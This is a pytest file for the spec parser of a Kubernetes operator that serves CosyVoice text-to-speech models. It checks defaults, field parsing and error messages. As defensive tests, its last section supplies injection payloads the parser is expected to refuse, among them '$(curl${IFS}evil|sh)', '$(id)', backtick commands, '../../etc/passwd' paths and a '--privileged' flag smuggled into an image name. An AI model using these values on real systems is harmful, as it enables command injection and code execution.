"""spec.parse: api.md's defaults, and errors that name the offending field."""

from __future__ import annotations

from typing import Any

import pytest

from cosyvoice_operator.api import spec
from cosyvoice_operator.api.spec import SpecError
from tests.api_defaults import stored_minimal_spec
from tests.unit.objects import MINIMAL_SPEC, raw_spec


def test_minimal_spec_gets_the_defaults_of_api_md() -> None:
    s = spec.parse(MINIMAL_SPEC)

    assert s.model.variant == "cosyvoice3"
    assert s.model.uri == "hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512"
    assert s.model.revision == ""
    assert s.model.credentials_secret == ""

    assert s.engine.precision == "bfloat16"
    assert s.engine.tensor_parallel_size == 1
    assert s.engine.max_batch_size == 16
    assert s.engine.max_num_tokens == 32768
    assert s.engine.builder_image == ""
    assert s.engine.cache_claim_name == "cosyvoice-engines"
    assert s.engine.gpu_products == ()

    assert s.serving.image == ""
    assert s.serving.gpus_per_replica == 1
    assert s.serving.instances_per_gpu == 4
    assert s.serving.streaming is True
    assert s.serving.dynamic_batching.preferred_batch_sizes == (4, 8, 16)
    assert s.serving.dynamic_batching.max_queue_delay_microseconds == 500
    assert s.serving.dynamic_batching.priority_levels == 2
    assert dict(s.serving.resources) == {}
    assert dict(s.serving.node_selector) == {}
    assert s.serving.tolerations == ()
    assert dict(s.serving.affinity) == {}

    assert s.replicas == 1

    a = s.autoscaling
    assert a.enabled is False
    assert a.mode == "Active"
    assert a.min_replicas == 1
    assert a.max_replicas == 4
    assert a.target_queue_latency_milliseconds == 50
    assert a.evaluation_interval_seconds == 15
    assert (a.scale_up.stabilization_window_seconds, a.scale_up.max_step_replicas) == (0, 4)
    assert (a.scale_down.stabilization_window_seconds, a.scale_down.max_step_replicas) == (300, 1)
    assert a.prometheus_url == ""
    assert a.schedules == ()


def test_api_server_defaults_parse_to_the_same_spec() -> None:
    """A stored object (every default filled in by the API server) equals the minimal one."""
    stored = stored_minimal_spec(MINIMAL_SPEC["model"])
    assert spec.parse(stored) == spec.parse(MINIMAL_SPEC)


def test_full_spec_is_read_field_by_field() -> None:
    s = spec.parse(
        raw_spec(
            model={
                "variant": "cosyvoice2",
                "uri": "pvc://model-store/cosyvoice2",
                "revision": "abc123",
                "credentialsSecret": "hf-token",
            },
            engine={
                "precision": "fp8",
                "tensorParallelSize": 2,
                "maxBatchSize": 64,
                "maxNumTokens": 65536,
                "builderImage": "registry.local/builder:1",
                "cacheClaimName": "engines",
                "gpuProducts": ["NVIDIA-L20", "NVIDIA-H100-80GB-HBM3", "NVIDIA-L20"],
            },
            serving={
                "gpusPerReplica": 4,
                "instancesPerGpu": 2,
                "streaming": False,
                "dynamicBatching": {
                    "preferredBatchSizes": [8, 32, 64],
                    "maxQueueDelayMicroseconds": 0,
                    "priorityLevels": 0,
                },
                "nodeSelector": {"pool": "tts"},
                "tolerations": [{"key": "dedicated", "operator": "Exists"}],
            },
            replicas=3,
            autoscaling={
                "enabled": True,
                "mode": "DryRun",
                "minReplicas": 0,
                "maxReplicas": 10,
                "targetQueueLatencyMilliseconds": 12.5,
                "schedules": [
                    {"name": "day", "start": "08:00", "end": "20:00", "minReplicas": 2},
                ],
            },
        )
    )
    assert s.model.variant == "cosyvoice2"
    assert s.model.scheme == "pvc"
    assert s.model.pvc_claim == "model-store"
    assert s.model.revision == "abc123"
    assert s.model.credentials_secret == "hf-token"
    assert s.engine.precision == "fp8"
    assert s.engine.tensor_parallel_size == 2
    assert s.engine.max_batch_size == 64
    assert s.engine.max_num_tokens == 65536
    assert s.engine.builder_image == "registry.local/builder:1"
    assert s.engine.cache_claim_name == "engines"
    assert s.engine.gpu_products == ("NVIDIA-L20", "NVIDIA-H100-80GB-HBM3")  # deduplicated
    assert s.serving.gpus_per_replica == 4
    assert s.serving.instances_per_gpu == 2
    assert s.serving.streaming is False
    assert s.serving.dynamic_batching.preferred_batch_sizes == (8, 32, 64)
    assert s.serving.dynamic_batching.max_queue_delay_microseconds == 0
    assert s.serving.dynamic_batching.priority_levels == 0
    assert dict(s.serving.node_selector) == {"pool": "tts"}
    assert s.serving.tolerations == ({"key": "dedicated", "operator": "Exists"},)
    assert s.replicas == 3
    assert s.autoscaling.enabled is True
    assert s.autoscaling.mode == "DryRun"
    assert (s.autoscaling.min_replicas, s.autoscaling.max_replicas) == (0, 10)
    assert s.autoscaling.target_queue_latency_milliseconds == 12.5
    (day,) = s.autoscaling.schedules
    assert (day.name, day.start, day.end, day.min_replicas) == ("day", "08:00", "20:00", 2)
    assert day.timezone == "UTC"
    assert len(day.days_of_week) == 7


@pytest.mark.parametrize(
    ("uri", "scheme", "claim"),
    [
        ("hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512", "hf", None),
        ("s3://models/cosyvoice3/", "s3", None),
        ("pvc://model-store/cosyvoice3", "pvc", "model-store"),
        ("pvc://model-store/a/b/c", "pvc", "model-store"),
    ],
)
def test_model_uri_schemes(uri: str, scheme: str, claim: str | None) -> None:
    s = spec.parse(raw_spec(model={"uri": uri}))
    assert s.model.scheme == scheme
    assert s.model.pvc_claim == claim


@pytest.mark.parametrize("cache_claim", [None, ""])
def test_empty_cache_claim_name_falls_back_to_default(cache_claim: str | None) -> None:
    s = spec.parse(raw_spec(engine={"cacheClaimName": cache_claim}))
    assert s.engine.cache_claim_name == "cosyvoice-engines"


@pytest.mark.parametrize("tp", [1, 2, 4, 8])
def test_tensor_parallel_sizes_with_matching_gpus(tp: int) -> None:
    # At most 8 GPUs per replica, as the CRD says (the parser allowed 64 before issue 21).
    gpus = min(tp * 2, 8)
    s = spec.parse(raw_spec(engine={"tensorParallelSize": tp}, serving={"gpusPerReplica": gpus}))
    assert s.engine.tensor_parallel_size == tp
    assert s.serving.gpus_per_replica == gpus


def test_empty_preferred_batch_sizes_are_allowed() -> None:
    s = spec.parse(raw_spec(serving={"dynamicBatching": {"preferredBatchSizes": []}}))
    assert s.serving.dynamic_batching.preferred_batch_sizes == ()


def test_small_engine_needs_explicit_preferred_batch_sizes() -> None:
    """The default [4, 8, 16] needs maxBatchSize >= 16, as the CRD's message says."""
    with pytest.raises(SpecError) as info:
        spec.parse(raw_spec(engine={"maxBatchSize": 8}))
    assert info.value.field == "spec.serving.dynamicBatching.preferredBatchSizes"
    s = spec.parse(
        raw_spec(
            engine={"maxBatchSize": 8}, serving={"dynamicBatching": {"preferredBatchSizes": [8]}}
        )
    )
    assert s.serving.dynamic_batching.preferred_batch_sizes == (8,)


INVALID: list[tuple[str, dict[str, Any], str]] = [
    ("no-model", {"model": None}, "spec.model.variant"),
    ("model-not-object", {"model": "hf://x/y"}, "spec.model"),
    ("no-variant", {"model": {"uri": "hf://a/b"}}, "spec.model.variant"),
    ("bad-variant", raw_spec(model={"variant": "cosyvoice1"}), "spec.model.variant"),
    ("no-uri", {"model": {"variant": "cosyvoice3"}}, "spec.model.uri"),
    ("http-uri", raw_spec(model={"uri": "https://huggingface.co/x/y"}), "spec.model.uri"),
    ("gs-uri", raw_spec(model={"uri": "gs://bucket/path"}), "spec.model.uri"),
    ("no-scheme", raw_spec(model={"uri": "FunAudioLLM/CosyVoice2-0.5B"}), "spec.model.uri"),
    ("hf-no-name", raw_spec(model={"uri": "hf://FunAudioLLM"}), "spec.model.uri"),
    ("hf-empty-name", raw_spec(model={"uri": "hf://FunAudioLLM/"}), "spec.model.uri"),
    ("s3-no-path", raw_spec(model={"uri": "s3://bucket"}), "spec.model.uri"),
    ("pvc-no-path", raw_spec(model={"uri": "pvc://claim/"}), "spec.model.uri"),
    ("pvc-no-claim", raw_spec(model={"uri": "pvc:///path"}), "spec.model.uri"),
    ("uri-whitespace", raw_spec(model={"uri": "s3://bucket/a b"}), "spec.model.uri"),
    ("engine-not-object", raw_spec(engine=[1]), "spec.engine"),
    ("bad-precision", raw_spec(engine={"precision": "int8"}), "spec.engine.precision"),
    ("tp-3", raw_spec(engine={"tensorParallelSize": 3}), "spec.engine.tensorParallelSize"),
    ("tp-0", raw_spec(engine={"tensorParallelSize": 0}), "spec.engine.tensorParallelSize"),
    ("tp-16", raw_spec(engine={"tensorParallelSize": 16}), "spec.engine.tensorParallelSize"),
    ("tp-str", raw_spec(engine={"tensorParallelSize": "2"}), "spec.engine.tensorParallelSize"),
    ("tp-bool", raw_spec(engine={"tensorParallelSize": True}), "spec.engine.tensorParallelSize"),
    ("batch-0", raw_spec(engine={"maxBatchSize": 0}), "spec.engine.maxBatchSize"),
    ("batch-257", raw_spec(engine={"maxBatchSize": 257}), "spec.engine.maxBatchSize"),
    ("tokens-0", raw_spec(engine={"maxNumTokens": 0}), "spec.engine.maxNumTokens"),
    (
        "gpus-not-multiple",
        raw_spec(engine={"tensorParallelSize": 2}, serving={"gpusPerReplica": 3}),
        "spec.serving.gpusPerReplica",
    ),
    (
        "gpus-below-tp",
        raw_spec(engine={"tensorParallelSize": 4}, serving={"gpusPerReplica": 2}),
        "spec.serving.gpusPerReplica",
    ),
    ("gpus-0", raw_spec(serving={"gpusPerReplica": 0}), "spec.serving.gpusPerReplica"),
    ("instances-0", raw_spec(serving={"instancesPerGpu": 0}), "spec.serving.instancesPerGpu"),
    ("instances-9", raw_spec(serving={"instancesPerGpu": 9}), "spec.serving.instancesPerGpu"),
    (
        "batch-sizes-above-max",
        raw_spec(serving={"dynamicBatching": {"preferredBatchSizes": [4, 8, 32]}}),
        "spec.serving.dynamicBatching.preferredBatchSizes",
    ),
    (
        "batch-sizes-zero",
        raw_spec(serving={"dynamicBatching": {"preferredBatchSizes": [0, 4]}}),
        "spec.serving.dynamicBatching.preferredBatchSizes",
    ),
    (
        "batch-sizes-decreasing",
        raw_spec(serving={"dynamicBatching": {"preferredBatchSizes": [8, 4]}}),
        "spec.serving.dynamicBatching.preferredBatchSizes",
    ),
    (
        "batch-sizes-repeated",
        raw_spec(serving={"dynamicBatching": {"preferredBatchSizes": [4, 4, 8]}}),
        "spec.serving.dynamicBatching.preferredBatchSizes",
    ),
    (
        "queue-delay-negative",
        raw_spec(serving={"dynamicBatching": {"maxQueueDelayMicroseconds": -1}}),
        "spec.serving.dynamicBatching.maxQueueDelayMicroseconds",
    ),
    (
        "priority-levels-101",
        raw_spec(serving={"dynamicBatching": {"priorityLevels": 101}}),
        "spec.serving.dynamicBatching.priorityLevels",
    ),
    ("replicas-negative", raw_spec(replicas=-1), "spec.replicas"),
    (
        "min-above-max",
        raw_spec(autoscaling={"minReplicas": 5, "maxReplicas": 4}),
        "spec.autoscaling.minReplicas",
    ),
    ("max-0", raw_spec(autoscaling={"maxReplicas": 0}), "spec.autoscaling.maxReplicas"),
    ("min-negative", raw_spec(autoscaling={"minReplicas": -1}), "spec.autoscaling.minReplicas"),
    ("bad-mode", raw_spec(autoscaling={"mode": "Passive"}), "spec.autoscaling.mode"),
    (
        "target-zero",
        raw_spec(autoscaling={"targetQueueLatencyMilliseconds": 0}),
        "spec.autoscaling.targetQueueLatencyMilliseconds",
    ),
    (
        "target-str",
        raw_spec(autoscaling={"targetQueueLatencyMilliseconds": "50"}),
        "spec.autoscaling.targetQueueLatencyMilliseconds",
    ),
    (
        "interval-0",
        raw_spec(autoscaling={"evaluationIntervalSeconds": 0}),
        "spec.autoscaling.evaluationIntervalSeconds",
    ),
    (
        "scale-up-step-0",
        raw_spec(autoscaling={"scaleUp": {"maxStepReplicas": 0}}),
        "spec.autoscaling.scaleUp.maxStepReplicas",
    ),
    (
        "scale-down-window-too-long",
        raw_spec(autoscaling={"scaleDown": {"stabilizationWindowSeconds": 3601}}),
        "spec.autoscaling.scaleDown.stabilizationWindowSeconds",
    ),
    (
        "schedule-floor-above-max",
        raw_spec(
            autoscaling={
                "maxReplicas": 4,
                "schedules": [
                    {"name": "a", "start": "08:00", "end": "09:00", "minReplicas": 1},
                    {"name": "b", "start": "09:00", "end": "10:00", "minReplicas": 5},
                ],
            }
        ),
        "spec.autoscaling.schedules[1].minReplicas",
    ),
    (
        "schedule-timezone-typo",
        raw_spec(
            autoscaling={
                "schedules": [
                    {
                        "name": "day",
                        "start": "08:00",
                        "end": "20:00",
                        "minReplicas": 1,
                        "timezone": "Asia/Shanghi",
                    }
                ]
            }
        ),
        "spec.autoscaling.schedules[0].timezone",
    ),
    (
        "schedule-timezone-path",
        raw_spec(
            autoscaling={
                "schedules": [
                    {
                        "name": "day",
                        "start": "08:00",
                        "end": "20:00",
                        "minReplicas": 1,
                        "timezone": "../../etc/passwd",
                    }
                ]
            }
        ),
        "spec.autoscaling.schedules[0].timezone",
    ),
    (
        "schedule-start-not-hhmm",
        raw_spec(
            autoscaling={
                "schedules": [{"name": "day", "start": "8:00", "end": "20:00", "minReplicas": 1}]
            }
        ),
        "spec.autoscaling.schedules[0].start",
    ),
    (
        "schedule-end-24h",
        raw_spec(
            autoscaling={
                "schedules": [{"name": "day", "start": "08:00", "end": "24:00", "minReplicas": 1}]
            }
        ),
        "spec.autoscaling.schedules[0].end",
    ),
    (
        "schedule-start-equals-end",
        raw_spec(
            autoscaling={
                "schedules": [{"name": "day", "start": "08:00", "end": "08:00", "minReplicas": 1}]
            }
        ),
        "spec.autoscaling.schedules[0].end",
    ),
    (
        "schedule-day-typo",
        raw_spec(
            autoscaling={
                "schedules": [
                    {
                        "name": "day",
                        "start": "08:00",
                        "end": "20:00",
                        "minReplicas": 1,
                        "daysOfWeek": ["Mon", "Tues"],
                    }
                ]
            }
        ),
        "spec.autoscaling.schedules[0].daysOfWeek",
    ),
    (
        "schedule-day-twice",
        raw_spec(
            autoscaling={
                "schedules": [
                    {
                        "name": "day",
                        "start": "08:00",
                        "end": "20:00",
                        "minReplicas": 1,
                        "daysOfWeek": ["Mon", "Mon"],
                    }
                ]
            }
        ),
        "spec.autoscaling.schedules[0].daysOfWeek",
    ),
    (
        "schedule-name-upper",
        raw_spec(
            autoscaling={
                "schedules": [
                    {"name": "Business", "start": "08:00", "end": "20:00", "minReplicas": 1}
                ]
            }
        ),
        "spec.autoscaling.schedules[0].name",
    ),
    (
        "schedule-name-twice",
        raw_spec(
            autoscaling={
                "schedules": [
                    {"name": "day", "start": "08:00", "end": "20:00", "minReplicas": 1},
                    {"name": "day", "start": "09:00", "end": "10:00", "minReplicas": 1},
                ]
            }
        ),
        "spec.autoscaling.schedules[1].name",
    ),
]


def test_a_mistyped_time_zone_is_refused_with_the_likely_one() -> None:
    """Issue 23: `Asia/Shanghi` passed the CRD and `render`, and turned autoscaling off with a
    traceback at every evaluation."""
    window = {"name": "day", "start": "08:00", "end": "20:00", "minReplicas": 1}
    with pytest.raises(
        SpecError, match=r"unknown IANA time zone 'Asia/Shanghi' \(did you mean Asia/Shanghai\?\)"
    ):
        spec.parse(raw_spec(autoscaling={"schedules": [{**window, "timezone": "Asia/Shanghi"}]}))
    (ok,) = spec.parse(
        raw_spec(autoscaling={"schedules": [{**window, "timezone": "Asia/Shanghai"}]})
    ).autoscaling.schedules
    assert ok.timezone == "Asia/Shanghai"


@pytest.mark.parametrize(("raw", "field"), [c[1:] for c in INVALID], ids=[c[0] for c in INVALID])
def test_spec_error_names_the_field(raw: dict[str, Any], field: str) -> None:
    with pytest.raises(SpecError) as info:
        spec.parse(raw)
    assert info.value.field == field
    assert str(info.value).startswith(f"{field}: ")


def test_uri_error_says_what_is_expected_and_what_was_given() -> None:
    with pytest.raises(SpecError) as info:
        spec.parse(raw_spec(model={"uri": "https://example.com/m"}))
    message = str(info.value)
    assert "hf://ORG/NAME" in message and "s3://" in message and "pvc://" in message
    assert "'https://example.com/m'" in message


def test_tp_error_lists_the_allowed_sizes() -> None:
    with pytest.raises(SpecError, match=r"must be 1, 2, 4 or 8, got 3"):
        spec.parse(raw_spec(engine={"tensorParallelSize": 3}))


def test_spec_error_is_a_value_error() -> None:
    assert issubclass(SpecError, ValueError)


def test_non_integer_preferred_batch_size_is_a_spec_error() -> None:
    with pytest.raises(SpecError) as info:
        spec.parse(raw_spec(serving={"dynamicBatching": {"preferredBatchSizes": [4, "eight"]}}))
    assert info.value.field == "spec.serving.dynamicBatching.preferredBatchSizes"


def test_fractional_preferred_batch_size_is_rejected() -> None:
    with pytest.raises(SpecError):
        spec.parse(raw_spec(serving={"dynamicBatching": {"preferredBatchSizes": [4.5, 8]}}))


# ---- issue 21: what the CRD cannot (or could not, for objects stored before) keep out ------


def _affinity(node_affinity: Any) -> dict[str, Any]:
    return raw_spec(serving={"affinity": {"nodeAffinity": node_affinity}})


@pytest.mark.parametrize(
    ("raw", "field"),
    [
        # The review's crashing shapes (M2): a string or a number where the core type has an
        # object or a list.
        (_affinity({"requiredDuringSchedulingIgnoredDuringExecution": "x"}), "nodeAffinity."),
        (
            _affinity(
                {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": ["x"]}}
            ),
            "nodeSelectorTerms[0]",
        ),
        (
            _affinity(
                {
                    "requiredDuringSchedulingIgnoredDuringExecution": {
                        "nodeSelectorTerms": [{"matchExpressions": ["x"]}]
                    }
                }
            ),
            "matchExpressions[0]",
        ),
        (
            _affinity(
                {
                    "requiredDuringSchedulingIgnoredDuringExecution": {
                        "nodeSelectorTerms": [
                            {"matchExpressions": [{"key": "k", "operator": "In", "values": 5}]}
                        ]
                    }
                }
            ),
            "matchExpressions[0].values",
        ),
        (raw_spec(serving={"affinity": "x"}), "spec.serving.affinity"),
        (raw_spec(serving={"affinity": {"nodeAfinity": {}}}), "spec.serving.affinity.nodeAfinity"),
        (
            raw_spec(
                serving={
                    "affinity": {
                        "podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [{}]}
                    }
                }
            ),
            "topologyKey",
        ),
        (raw_spec(serving={"tolerations": ["x"]}), "spec.serving.tolerations[0]"),
        (raw_spec(serving={"tolerations": [{"operator": "Matches"}]}), "tolerations[0].operator"),
        (raw_spec(serving={"nodeSelector": ["x"]}), "spec.serving.nodeSelector"),
        (raw_spec(serving={"nodeSelector": {"pool": 5}}), "spec.serving.nodeSelector.pool"),
        (raw_spec(serving={"resources": {"requests": "x"}}), "spec.serving.resources.requests"),
        (raw_spec(serving={"resources": {"limits": {"cpu": [1]}}}), "resources.limits.cpu"),
        (raw_spec(engine={"gpuProducts": "NVIDIA-L20"}), "spec.engine.gpuProducts"),
        # Lenient parses of the review's L7: strings that used to read as True.
        (raw_spec(serving={"streaming": "false"}), "spec.serving.streaming"),
        (raw_spec(autoscaling={"enabled": "false"}), "spec.autoscaling.enabled"),
        # Bounds of the CRD.
        (raw_spec(serving={"gpusPerReplica": 64}), "spec.serving.gpusPerReplica"),
        (
            raw_spec(serving={"dynamicBatching": {"maxQueueDelayMicroseconds": 10**9}}),
            "maxQueueDelayMicroseconds",
        ),
        (raw_spec(engine={"maxNumTokens": 1 << 24}), "spec.engine.maxNumTokens"),
    ],
)
def test_malformed_core_types_are_spec_errors_not_crashes(raw: dict[str, Any], field: str) -> None:
    with pytest.raises(SpecError) as err:
        spec.parse(raw)
    assert field in err.value.field


def test_a_bounded_affinity_still_parses() -> None:
    affinity = {
        "nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [
                    {"matchExpressions": [{"key": "pool", "operator": "In", "values": ["tts"]}]}
                ]
            },
            "preferredDuringSchedulingIgnoredDuringExecution": [
                {
                    "weight": 10,
                    "preference": {
                        "matchFields": [
                            {"key": "metadata.name", "operator": "NotIn", "values": ["n1"]}
                        ]
                    },
                }
            ],
        },
        "podAntiAffinity": {
            "preferredDuringSchedulingIgnoredDuringExecution": [
                {
                    "weight": 100,
                    "podAffinityTerm": {
                        "topologyKey": "kubernetes.io/hostname",
                        "labelSelector": {"matchLabels": {"app": "tts"}},
                    },
                }
            ]
        },
    }
    tolerations = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
    s = spec.parse(raw_spec(serving={"affinity": affinity, "tolerations": tolerations}))
    assert dict(s.serving.affinity) == affinity
    assert s.serving.tolerations == tuple(tolerations)


def test_an_affinity_over_the_bounds_is_refused() -> None:
    values = [f"v{i}" for i in range(65)]
    raw = _affinity(
        {
            "requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [
                    {"matchExpressions": [{"key": "k", "operator": "In", "values": values}]}
                ]
            }
        }
    )
    with pytest.raises(SpecError, match="at most 64 items"):
        spec.parse(raw)


@pytest.mark.parametrize(
    "revision",
    [
        "$(curl${IFS}evil|sh)",
        ";`id`'\"&&",
        "--pvc-root=/etc",
        "../../x",
        "a..b",
        "a\x00b",
        "a\x1bb",
        "a\u2028b",
        "a\xa0b",
    ],
)
def test_hostile_revisions_are_refused(revision: str) -> None:
    with pytest.raises(SpecError) as err:
        spec.parse(raw_spec(model={"revision": revision}))
    assert err.value.field == "spec.model.revision"


@pytest.mark.parametrize(
    "revision", ["main", "refs/pr/1", "v1.0.2", "a" * 40, "3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+M="]
)
def test_ordinary_revisions_parse(revision: str) -> None:
    assert spec.parse(raw_spec(model={"revision": revision})).model.revision == revision


@pytest.mark.parametrize(
    "uri",
    [
        "s3://bucket/$(id)/x",
        "s3://bucket/a/../../etc",
        "pvc://claim/../other",
        "pvc://claim/./x",
        "s3://bucket/a\x1bb",
        "s3://bucket/a\x00b",
    ],
)
def test_hostile_paths_are_refused(uri: str) -> None:
    with pytest.raises(SpecError) as err:
        spec.parse(raw_spec(model={"uri": uri}))
    assert err.value.field == "spec.model.uri"


@pytest.mark.parametrize(
    ("section", "key", "image"),
    [
        ("engine", "builderImage", "evil.example/x:1 --privileged"),
        ("serving", "image", "$(curl evil)"),
        ("serving", "image", "registry.example/x\x1b[2J"),
    ],
)
def test_images_must_be_image_references(section: str, key: str, image: str) -> None:
    with pytest.raises(SpecError) as err:
        spec.parse(raw_spec(**{section: {key: image}}))
    assert err.value.field == f"spec.{section}.{key}"


def test_digests_are_image_references() -> None:
    image = "nvcr.io/nvidia/tritonserver@sha256:" + "a" * 64
    assert spec.parse(raw_spec(serving={"image": image})).serving.image == image


@pytest.mark.parametrize("secret", ["Hf-Token", "a/b", "x" * 254])
def test_credentials_secret_must_be_a_secret_name(secret: str) -> None:
    with pytest.raises(SpecError) as err:
        spec.parse(raw_spec(model={"credentialsSecret": secret}))
    assert err.value.field == "spec.model.credentialsSecret"
